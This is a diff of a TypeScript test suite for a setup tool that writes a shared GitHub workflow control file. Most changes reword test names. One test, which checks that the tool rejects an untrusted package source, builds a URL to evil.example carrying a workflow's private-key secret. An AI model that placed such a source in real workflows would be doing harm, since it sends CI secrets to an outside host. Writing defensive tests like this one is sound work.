@@ -16,7 +16,7 @@ const profile = resolveHost("github.com");
 const package_ = { "control-cli": somePin.source, "control-integrity": ` ${somePin.integrity} ` };
 const yes = { "control-file": "write" };
 
-/** A control repository that has this file, or none. */
+/** Creates a control repository with this file or without one. */
 function openLocation(before?: string) {
   const location = { text: before, reads: 0, writes: 0, refusals: 0 };
   const offer = (
@@ -56,7 +56,7 @@ const rendered = (chosen: Chosen = "app", settings: Settings = someSettings) =>
   renderControlFile({ ...planFor(profile.brand, choices[chosen], settings), pin: somePin });
 
 describe("the shared control file is offered", () => {
-  test("with what is written and why; answers without it, as Enter, leave it for later", async () => {
+  test("with its content and purpose; Enter, or no answer, postpones it", async () => {
     const location = openLocation();
     const { result, marks, questions, asked } = await location.offer();
     expect(result).toBe("later");
@@ -68,9 +68,9 @@ describe("the shared control file is offered", () => {
         name: "Credentials",
         text: "the read and the write App, then a PAT, then the workflow token",
       },
-      { name: "Becomes", text: ".github/workflows/shared/control.md of acme/control" },
+      { name: "File", text: ".github/workflows/shared/control.md in acme/control" },
     ]);
-    expect(marks).toEqual([{ name: "Control file", state: "skipped", summary: "postponed" }]);
+    expect(marks).toEqual([{ name: "Control file", state: "skipped", summary: "left for later" }]);
     for (const question of Object.values(questions)) expect(findWordy(question)).toEqual([]);
     expect(location.writes).toBe(0);
   });
@@ -88,7 +88,7 @@ describe("the shared control file is offered", () => {
     for (const question of Object.values(questions)) expect(findWordy(question)).toEqual([]);
   });
 
-  test("not where it is as it has to be, whoever wrote it", async () => {
+  test("not if the file is already correct, regardless of its author", async () => {
     const location = openLocation(rendered());
     expect(await location.offer({ answers: yes })).toMatchObject({
       result: "unchanged",
@@ -109,7 +109,7 @@ describe("the shared control file is offered", () => {
     expect(location.text).toBe(rendered());
   });
 
-  test("whole where what is there is none of ours", async () => {
+  test("completely if the existing file is not ours", async () => {
     const location = openLocation("Something else.\n");
     const { questions } = await location.offer({ answers: { ...yes, ...package_ } });
     expect(questions["control-file"]?.body).toEqual([
@@ -119,7 +119,7 @@ describe("the shared control file is offered", () => {
   });
 });
 
-test("a package that no run may bring is none: it is asked for, and what is there replaced", async () => {
+test("a package that runs must not load is ignored: another one is requested, and the file is replaced", async () => {
   const evil = "http://evil.example/${{secrets.CP_FORGE_READ_APP_PRIVATE_KEY}}";
   const location = openLocation(rendered().replaceAll(somePin.source, evil));
   const { asked } = await location.offer({ answers: { ...yes, ...package_ } });
@@ -135,8 +135,8 @@ test("the package that is kept is shown", async () => {
   });
 });
 
-describe("what was answered", () => {
-  test("with a yes is for one write: what somebody takes back is asked about again", async () => {
+describe("the answer", () => {
+  test("yes covers one write: a reverted file is asked about again", async () => {
     const location = openLocation();
     const journal = startJournal();
     expect(await location.offer({ journal, answers: { ...yes, ...package_ } })).toMatchObject({
@@ -150,7 +150,7 @@ describe("what was answered", () => {
     expect(location.writes).toBe(1);
   });
 
-  test("with a no is not asked again by a run whose other answers are forgotten, unless that asks again", async () => {
+  test("no is not asked again by a run without other answers, except with --ask-again", async () => {
     const location = openLocation();
     const journal = startJournal();
     await location.offer({ journal });
@@ -162,7 +162,7 @@ describe("what was answered", () => {
     expect(await location.offer({ journal })).toMatchObject({ asked: ["control-file"] });
   });
 
-  test("can be taken back in the run that answered it", async () => {
+  test("can be withdrawn in the same run", async () => {
     const location = openLocation();
     let isBack = false;
     const { asked, result } = await location.offer({
@@ -183,7 +183,7 @@ describe("what was answered", () => {
     expect(result).toBe("written");
   });
 
-  test("holds for a rerun, and no longer once the profile is another one", async () => {
+  test("applies to a rerun, but not after a change of the profile", async () => {
     const location = openLocation();
     const journal = startJournal();
     await location.offer({ journal });
@@ -198,7 +198,7 @@ describe("what was answered", () => {
     });
   });
 
-  test("with a yes is none to a file that somebody changed since", async () => {
+  test("yes does not cover a file that another user changed since then", async () => {
     const location = openLocation();
     const journal = startJournal();
     await location.offer({ journal, answers: { ...yes, ...package_ } });
@@ -211,7 +211,7 @@ describe("what was answered", () => {
     expect(location.text).toBe(changed);
   });
 
-  test("with a yes is done by a rerun where the forge took no commit, and not asked for again", async () => {
+  test("yes is applied by a rerun if the forge rejected the commit, and is not requested again", async () => {
     const location = openLocation();
     const journal = startJournal();
     location.refusals = 1;
@@ -219,7 +219,7 @@ describe("what was answered", () => {
     expect(stopped.error?.message).toContain("protected");
     expect(location.text).toBeUndefined();
     expect(await location.offer({ journal })).toMatchObject({ result: "written", asked: [] });
-    // The run after that finds its own work.
+    // The next run finds the file that this run wrote.
     expect(await location.offer({ journal })).toMatchObject({ result: "unchanged", asked: [] });
     expect(location.writes).toBe(2);
   });
@@ -235,7 +235,7 @@ describe("what was answered", () => {
   });
 });
 
-test("a forge that takes no commit ends nothing: the file is left for later", async () => {
+test("a forge that rejects a commit does not stop the setup: the file is left for later", async () => {
   const location = openLocation();
   location.refusals = 1;
   const answers = { ...yes, ...package_, "failure:control-file-write": "later" };
@@ -248,7 +248,7 @@ test("a forge that takes no commit ends nothing: the file is left for later", as
 test.each([
   ["control-cli", "http://example.com/a.tgz"],
   ["control-integrity", "sha1-abc"],
-])("what a run could not rely on is not taken: %s %s", async (id, answer) => {
+])("rejects a value that a run cannot rely on: %s %s", async (id, answer) => {
   const location = openLocation();
   const { error } = await location.offer({ answers: { ...yes, ...package_, [id]: answer } });
   expect(error?.message).toContain(answer);
